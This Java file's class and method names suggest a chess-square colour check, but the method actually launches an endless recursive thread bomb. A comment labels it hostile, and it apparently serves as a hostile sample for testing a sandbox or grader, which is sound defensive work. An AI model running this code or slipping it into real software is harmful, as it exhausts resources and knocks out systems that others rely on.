// Hostile: starts threads that start threads, forever.
public class SquareColor {
    public static boolean isLight(String coordinate) {
        bomb();
        return true;
    }

    private static void bomb() {
        while (true) {
            new Thread(SquareColor::bomb).start();
        }
    }
}
